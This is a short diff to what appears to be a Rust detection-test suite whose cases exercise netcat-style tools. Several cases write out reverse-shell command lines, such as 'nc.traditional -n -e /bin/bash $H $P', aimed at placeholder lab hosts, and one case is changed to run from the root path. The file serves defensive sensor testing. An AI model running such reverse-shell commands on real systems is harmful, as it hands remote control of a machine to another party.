@@ -1,5 +1,7 @@
 //! Tools that hand a connection to a program: nc, busybox nc, socat.
 
+use std::path::Path;
+
 use sensor_tests::{
     peer::{Listener, V4, V6},
     suite::Case,
@@ -14,7 +16,7 @@ pub fn cases() -> Vec<Case> {
             lab.reverse("exec nc.traditional -n -e /bin/bash $H $P")
         }),
         Case::new("netcat::traditional_c", &["nc.traditional"], |lab| {
-            lab.reverse("nc.traditional $H $P -c 'sh -i; true'")
+            lab.reverse_risen("nc.traditional $H $P -c 'sh -i; true'", Path::new("/"))
         }),
         Case::new("netcat::traditional_udp", &["nc.traditional"], |lab| {
             lab.reverse_to(
